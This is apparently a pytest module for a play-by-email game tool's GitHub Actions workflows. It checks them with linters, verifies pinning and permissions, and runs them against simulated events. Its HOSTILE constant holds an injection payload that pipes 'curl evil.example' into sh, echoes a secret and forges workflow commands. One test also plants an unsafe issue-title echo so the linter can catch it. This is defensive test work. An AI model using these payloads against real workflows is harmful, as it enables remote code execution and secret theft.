"""The workflows: as linters read them, and their scripts run as a runner would run them, with events of each kind."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from pbem.cli.starting import FILES, made
from pbem.publish import assets
from tests.helpers import NAME, RAW_SECRET

from .conftest import Club
from .forge import git
from .runner import EXPRESSION, ROOT, Ran, Runner, again, load, run_workflow
from .test_turn import asked

COMMIT = "0123456789abcdef0123456789abcdef01234567"
BIN = Path(sys.executable).parent
OURS = ROOT / ".github"
HOSTILE = (
    '"; curl evil.example | sh; echo "$PBEM_SECRET" `id` $(id) ${{ secrets.PBEM_SECRET }}\n::set-output name=changed::true\n::error::x\n'
)


@pytest.fixture(scope="module")
def repository(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """What pbem init makes, without git."""
    return made_in(tmp_path_factory.mktemp("club"))


def made_in(root: Path) -> Path:
    for name, text in made("someone/pbem", COMMIT, "main", NAME, "club").items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return root


def tool(name: str, *args: str | Path) -> str:
    """A tool's findings, "" when there are none. The tools belong to the development set-up: none may be missing."""
    done = subprocess.run([BIN / name, *args], capture_output=True, text=True, check=False, cwd=ROOT)
    return "" if done.returncode == 0 else done.stdout + done.stderr


def test_the_schemas_know_every_file(repository: Path) -> None:
    theirs = repository / ".github"
    forms = theirs / "ISSUE_TEMPLATE"
    for schema, files in {
        "workflows": [*(OURS / "workflows").glob("*.yml"), *(theirs / "workflows").glob("*.yml")],
        "actions": [OURS / "actions" / "setup" / "action.yml"],
        "issue-config": [forms / "config.yml"],
        "issue-forms": [forms / f"{name}.yml" for name in ("orders", "join", "request")],
    }.items():
        assert files and not tool("check-jsonschema", "--builtin-schema", f"vendor.github-{schema}", *files)
    assert not tool("check-jsonschema", "--builtin-schema", "vendor.dependabot", OURS / "dependabot.yml", theirs / "dependabot.yml")


def test_actionlint_has_nothing_to_say(repository: Path) -> None:
    for folder in (OURS, repository / ".github"):
        assert not tool("actionlint", "-no-color", *sorted((folder / "workflows").glob("*.yml")))


def test_zizmor_has_nothing_to_say_that_is_not_explained(repository: Path) -> None:
    for folder in (ROOT / ".github", repository):
        assert not tool("zizmor", "--offline", "--no-progress", "--quiet", "--persona", "pedantic", folder)
    # What is let pass is one thing, with its reason in the line above.
    for path in (OURS / "workflows" / "turn.yml", repository / ".github" / "workflows" / "turn.yml"):
        text = path.read_text(encoding="utf-8")
        assert text.count("zizmor: ignore") == 1
        assert re.search(r"# Anybody can set this off\..*\n  issue_comment: # zizmor: ignore\[dangerous-triggers\]", text)


def test_a_linter_would_find_what_we_must_not_do(tmp_path: Path) -> None:
    """The tools do look: each of the faults that matter most is found."""
    text = (OURS / "workflows" / "turn.yml").read_text(encoding="utf-8")
    bad = tmp_path / ".github" / "workflows" / "turn.yml"
    bad.parent.mkdir(parents=True)
    for old, new in (
        ("run: pbem github turn", "run: echo '${{ github.event.issue.title }}'; pbem github turn"),
        (" # zizmor: ignore[dangerous-triggers]", ""),
        ("@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "@v7"),
    ):
        assert old in text
        bad.write_text(text.replace(old, new), encoding="utf-8")
        assert tool("zizmor", "--offline", "--no-progress", "--quiet", "--persona", "pedantic", tmp_path), new
    bad.write_text(text.replace("queue: max", "queue: maxx"), encoding="utf-8")
    assert tool("check-jsonschema", "--builtin-schema", "vendor.github-workflows", bad)


def jobs(*paths: Path) -> Iterator[tuple[str, dict[str, Any]]]:
    for path in paths:
        yield from load(path)["jobs"].items()


def test_rights_are_the_least_and_the_secret_is_in_one_job(repository: Path) -> None:
    turn, publish = repository / ".github" / "workflows" / "turn.yml", OURS / "workflows" / "publish.yml"
    for path in (turn, publish, OURS / "workflows" / "turn.yml"):
        workflow = load(path)
        assert workflow["permissions"] == {}
        assert path.read_text(encoding="utf-8").count("secrets.") == (0 if path == publish else 1)
        for job in workflow["jobs"].values():
            for step in job.get("steps", []):
                assert not EXPRESSION.search(step.get("run", ""))
    found = dict(jobs(turn, publish))
    rights = {name: set(job["permissions"]) for name, job in found.items()}
    assert rights["turn"] == {"contents", "issues", "pull-requests"} and found["turn"]["permissions"]["issues"] == "read"
    assert rights["answer"] == {"issues", "pull-requests"} and rights["pages"] == {"contents"} and rights["deploy"] == {"pages", "id-token"}
    assert [name for name, job in found.items() if job.get("environment") == "pbem"] == ["turn"]
    writers = [name for name, job in found.items() if job["permissions"].get("contents") == "write"]
    assert writers == ["turn"] and found["publish"].get("secrets") is None
    workflow = load(turn)
    assert workflow["concurrency"] == {"group": "turn-${{ github.repository }}", "queue": "max"} and workflow["cache-mode"] == "none"
    assert not workflow["on"]["schedule"][0]["cron"].startswith("0 "), "off the full hour"
    assert "pull_request_target" not in workflow["on"] and "pull_request" not in workflow["on"]


def test_everything_is_pinned(repository: Path) -> None:
    for path in (*OURS.rglob("*.yml"), *(repository / ".github").rglob("*.yml")):
        for uses in re.findall(r"uses: (\S+)", path.read_text(encoding="utf-8")):
            assert uses.startswith("$/") or re.search(r"@[0-9a-f]{40}$", uses), f"{path}: {uses}"


def test_our_own_turn_is_the_one_that_init_makes() -> None:
    switch = (
        "    # A copy of this repository is a campaign repository once its variable PBEM_CAMPAIGNS says so.\n"
        "    if: vars.PBEM_CAMPAIGNS == 'yes'\n"
    )
    facts = {"BRANCH": "main", "SETUP": "$/.github/actions/setup", "PUBLISH": "$/.github/workflows/publish.yml", "IF": switch}
    told = re.sub(r"@([A-Z]+)@", lambda found: facts[found[1]], assets.text("templates", "repository/turn.yml"))
    assert (OURS / "workflows" / "turn.yml").read_text(encoding="utf-8") == told


def test_the_set_up_installs_the_commit_it_is_taken_from(tmp_path: Path) -> None:
    steps = load(OURS / "actions" / "setup" / "action.yml")["runs"]["steps"]
    fakes = tmp_path / "bin"
    fakes.mkdir()
    for name in ("python", "sudo"):
        (fakes / name).write_text(f'#!/bin/sh\necho {name} "$@" >> "$LOG"\n', encoding="utf-8")
        (fakes / name).chmod(0o755)
    log = tmp_path / "log"
    for extra in ("", "[pdf]"):
        for step in steps:
            if "run" in step:
                env = {
                    "PATH": f"{fakes}:/usr/bin:/bin", "LOG": str(log), "PBEM_EXTRA": extra,
                    "GITHUB_ACTION_PATH": str(OURS / "actions" / "setup"),
                }  # fmt: skip
                subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]], env=env, check=True, cwd=tmp_path)
    told = log.read_text(encoding="utf-8")
    installed = re.findall(r"python -m pip install .* (\S+)\n", told)
    assert [Path(path.removesuffix("[pdf]")).resolve() for path in installed] == [ROOT, ROOT] and installed[1].endswith("[pdf]")
    assert (ROOT / "pyproject.toml").is_file()
    needed = (ROOT / ".github" / "workflows" / "ci.yml").read_text(encoding="utf-8")
    for library in re.findall(r"lib\S+", told):
        assert library in needed


def workflow_of(repository: Path) -> tuple[dict[str, Any], dict[str, Any]]:
    return load(repository / ".github" / "workflows" / "turn.yml"), load(OURS / "workflows" / "publish.yml")


def go(club: Club, repository: Path, name: str, event: dict[str, Any]) -> dict[str, Ran]:
    """The whole workflow but the pages, which are built in one test."""
    club.runs += 1
    root = club.root / f"workflow-{club.runs}"
    caller, called = workflow_of(repository)
    del called["jobs"]["pages"], called["jobs"]["deploy"]
    called["jobs"] |= {"pages": {"if": "inputs.never"}, "deploy": {"if": "inputs.never"}}
    ran = run_workflow(Runner(root, club.bare, club.forge.address, name, event, RAW_SECRET.hex()), caller, called)
    club.look()
    assert not any(one.failed for one in ran.values()), {key: one.log for key, one in ran.items()}
    return ran


@pytest.mark.parametrize("kind", ["issues.opened", "issues.edited", "issue_comment.created", "issue_comment.edited", "push"])
def test_events_that_bring_a_file(club: Club, repository: Path, kind: str, monkeypatch: pytest.MonkeyPatch) -> None:
    seat, _ = asked(club)
    monkeypatch.setenv("PBEM_SECRET", "")
    text = club.text(club.orders(seat))
    event: dict[str, Any] = {"action": kind.partition(".")[2], "repository": {"full_name": "club/games", "default_branch": "main"}}
    if kind == "push":
        where = club.fresh()
        (where / "inbox").mkdir()
        (where / "inbox" / "an.order.toml").write_bytes(club.orders(seat))
        git(where, "add", "--all")
        git(where, "commit", "--quiet", "-m", "orders")
        git(where, "push", "--quiet", "origin", "HEAD:main")
        event["after"] = git(where, "rev-parse", "HEAD").strip()
        event["repository"]["pushed_at"] = int(club.forge.now.timestamp())
    elif kind.startswith("issues"):
        event["issue"] = dict(club.forge.open(HOSTILE + text)) | {"title": HOSTILE}
    else:
        event["issue"] = dict(club.forge.open(HOSTILE))
        event["comment"] = dict(club.forge.say(1, text + HOSTILE, author="mallory"))
    ran = go(club, repository, kind.partition(".")[0], event)
    assert club.receipts() == 4 and ran["turn"].outputs["changed"] == "true"
    if kind == "push":
        assert "answer" not in ran
    else:
        assert any("receipt 4" in body for body in club.forge.said(1))
    assert "evil" not in "".join(one.log for one in ran.values())


def test_runs_that_find_nothing_leave_nothing(club: Club, repository: Path) -> None:
    ran = go(club, repository, "schedule", {"schedule": "17 * * * *"})
    assert ran["turn"].outputs["answers"] == "false" and "Nothing to do." in ran["turn"].log
    assert ran["turn"].skipped and "answer" not in ran
    ran = go(club, repository, "workflow_dispatch", {"inputs": {}})
    assert ran["turn"].outputs == {"changed": "true", "answers": "false"}


def test_a_run_can_be_run_again(club: Club, repository: Path) -> None:
    seat, _ = asked(club)
    club.forge.open(club.text(club.orders(seat)))
    caller, called = workflow_of(repository)
    called["jobs"]["pages"]["steps"] = [step for step in called["jobs"]["pages"]["steps"] if step.get("name") != "Build"]
    called["jobs"]["pages"]["steps"].insert(1, {"name": "Build", "run": "mkdir _site && touch _site/index.html"})
    runner = Runner(club.root / "twice", club.bare, club.forge.address, "workflow_dispatch", {}, RAW_SECRET.hex())
    first = run_workflow(runner, caller, called)
    # As when the answers could not be written: they are asked for anew.
    club.forge.comments.clear()
    second = again(runner, caller, called)
    assert all("deploy" in ran and "answer" in ran and not any(one.failed for one in ran.values()) for ran in (first, second))
    assert len(club.forge.said(1)) == 1 and {"github-pages-1", "github-pages-2"} <= set(runner.artifacts)


def test_a_failing_campaign_is_told_and_the_others_are_answered(club: Club, repository: Path) -> None:
    """A step that fails ends the run in red, and what went well is published all the same."""
    seat, _ = asked(club)
    where = club.fresh()
    (where / "games" / "broken").mkdir()
    (where / "games" / "broken" / "game.toml").write_text("no game\n", encoding="utf-8")
    git(where, "add", "--all")
    git(where, "commit", "--quiet", "-m", "broken")
    git(where, "push", "--quiet", "origin", "HEAD:main")
    club.forge.open(club.text(club.orders(seat)))
    caller, called = workflow_of(repository)
    called["jobs"] |= {"pages": {"if": "inputs.never"}, "deploy": {"if": "inputs.never"}}
    ran = run_workflow(Runner(club.root / "red", club.bare, club.forge.address, "schedule", {}, RAW_SECRET.hex()), caller, called)
    assert ran["turn"].failed == "Answer and play" and "broken" in ran["turn"].log
    assert len(club.forge.said(1)) == 1


def test_one_event_alone_without_git(club: Club) -> None:
    seat, _ = asked(club)
    pull = club.forge.request({"inbox/an.order.toml": club.orders(seat)})
    given = {"PBEM_SECRET": RAW_SECRET.hex(), "GITHUB_TOKEN": "${{ github.token }}"}
    step = {"run": "pbem github event --out out && cat out/*", "env": given}
    runner = Runner(club.root / "alone", club.bare, club.forge.address, "pull_request", {"action": "opened", "pull_request": pull}, "")
    checkout = {"uses": "actions/checkout@0", "with": {"persist-credentials": False}}
    ran = runner.job({"steps": [checkout, step]}, {}, "event")
    assert not ran.failed and '"issue":1' in ran.log and "receipt 4" in ran.log and "pbem: taken" in ran.log


def test_a_job_without_its_secret_says_so_and_changes_nothing(club: Club, repository: Path) -> None:
    seat, _ = asked(club)
    club.forge.open(club.text(club.orders(seat)))
    caller, called = workflow_of(repository)
    ran = run_workflow(Runner(club.root / "none", club.bare, club.forge.address, "schedule", {}, ""), caller, called)
    assert ran["turn"].failed and "secret" in ran["turn"].log and "Traceback" not in ran["turn"].log
    club.look()
    assert club.receipts() == 3 and club.forge.said(1) == []


def test_every_template_is_used(repository: Path) -> None:
    lying = {path.name for path in (ROOT / "templates" / "repository").iterdir()}
    assert lying == set(FILES.values())
    for path in repository.rglob("*"):
        if path.is_file():
            assert not re.search(r"@[A-Z]+@", path.read_text(encoding="utf-8")), path
    assert os.environ.get("PBEM_SECRET", "") == ""
